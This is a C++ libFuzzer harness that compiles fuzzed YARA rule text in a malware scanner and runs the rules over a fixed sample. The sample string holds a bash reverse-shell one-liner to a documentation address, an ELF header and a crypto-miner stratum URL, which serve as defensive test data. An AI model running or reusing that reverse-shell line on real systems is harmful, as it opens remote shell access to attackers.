// Hostile YARA rule text through the compiler moat uses for the user's rule files (bundled rules off,
// so each input compiles alone and fast); a rule set that compiles is then run over a fixed sample,
// so meta handling and the scan callback see whatever the compiler accepts. Only moat::Error may come out.
#include <cstddef>
#include <cstdint>
#include <string>
#include <string_view>

#include "base/error.h"
#include "malware/yara_scanner.h"

namespace {

constexpr std::string_view kSample =
    "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n\x7f"
    "ELF\x01\x02 stratum+tcp://a:1\n";

}  // namespace

extern "C" int LLVMFuzzerTestOneInput(const std::uint8_t* data, std::size_t size) {
  moat::malware::YaraOptions options;
  options.include_bundled = false;
  options.timeout = std::chrono::seconds(2);
  options.rule_texts.push_back({"fuzz.yar", std::string(reinterpret_cast<const char*>(data), size)});
  try {
    const moat::malware::YaraScanner scanner(options);
    for (const auto& d : scanner.scan("dir/sample.sh", kSample)) {
      if (d.engine != "yara" || d.rule_id.empty() || d.severity.empty()) __builtin_trap();
    }
  } catch (const moat::Error&) {
  }
  return 0;
}
